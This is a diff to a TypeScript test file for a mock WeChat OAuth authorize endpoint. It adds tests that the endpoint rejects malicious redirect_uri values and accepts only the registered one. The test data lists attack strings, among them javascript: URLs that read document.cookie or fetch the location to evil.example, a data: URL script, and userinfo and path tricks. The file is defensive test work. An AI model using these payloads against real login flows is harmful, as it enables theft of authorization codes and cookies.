@@ -69,7 +69,7 @@ test('past the per-user minute quota code2session answers 45011', async () => {
   expect(await exchange(await deviceLogin('bob'))).toHaveProperty('openid')
 })
 
-test('the authorize page is HTML that sends the user back only to an allowed host', async () => {
+test('the authorize page is HTML that sends the user back only to a registered redirect URI', async () => {
   const ok = await dept.app.inject({
     method: 'GET',
     url: '/connect/oauth2/authorize',
@@ -85,4 +85,58 @@ test('the authorize page is HTML that sends the user back only to an allowed hos
     query: { appid: APPID, redirect_uri: 'https://evil.example/steal', state: '' },
   })
   expect(evil.statusCode).toBe(400)
+})
+
+const REGISTERED = 'http://localhost:3000/#/pages/login/index'
+const authorize = (redirectUri: string) =>
+  dept.app.inject({
+    method: 'GET',
+    url: '/connect/oauth2/authorize',
+    query: { appid: APPID, redirect_uri: redirectUri, state: 's1' },
+  })
+
+test('a redirect_uri that only shares the registered host cannot steal the login code: javascript:, other path, port, userinfo', async () => {
+  const attacks = {
+    'javascript: URL naming the host': 'javascript://localhost/%0Aalert(document.cookie)',
+    'javascript: URL with the registered port': 'javascript://localhost:3000/%0Afetch(`//evil.example/${location}`)',
+    'another path on the host': 'http://localhost:3000/evil.html#/pages/login/index',
+    'a path prefix match': 'http://localhost:3000/#/pages/login/index/../../../evil',
+    'an added query': 'http://localhost:3000/?next=//evil.example#/pages/login/index',
+    'another port': 'http://localhost:4444/#/pages/login/index',
+    'another scheme': 'https://localhost:3000/#/pages/login/index',
+    'userinfo before the host': 'http://evil.example@localhost:3000/#/pages/login/index',
+    'userinfo that is the host': 'http://localhost:3000@evil.example/#/pages/login/index',
+    'upper-case host': 'http://LOCALHOST:3000/#/pages/login/index',
+    'a data: URL': 'data:text/html,<script>alert(1)</script>',
+  }
+  const accepted = []
+  for (const [attack, uri] of Object.entries(attacks)) {
+    const res = await authorize(uri)
+    if (res.statusCode !== 400) accepted.push(`${attack}: ${res.statusCode}`)
+  }
+  expect(accepted).toEqual([])
+  expect((await authorize(REGISTERED)).statusCode).toBe(200)
+})
+
+test('a redirect URI registered for another deployment is the only one it accepts', async () => {
+  const mine = 'https://ysx.example.cn/#/pages/login/index'
+  const other = buildWechatApp({
+    dbFile: ':memory:',
+    appId: APPID,
+    appSecret: SECRET,
+    logLevel: 'silent',
+    redirectUris: [mine],
+  })
+  try {
+    const ask = (uri: string) =>
+      other.app.inject({
+        method: 'GET',
+        url: '/connect/oauth2/authorize',
+        query: { appid: APPID, redirect_uri: uri, state: '' },
+      })
+    expect((await ask(mine)).statusCode).toBe(200)
+    expect((await ask(REGISTERED)).statusCode).toBe(400)
+  } finally {
+    await other.app.close()
+  }
 })
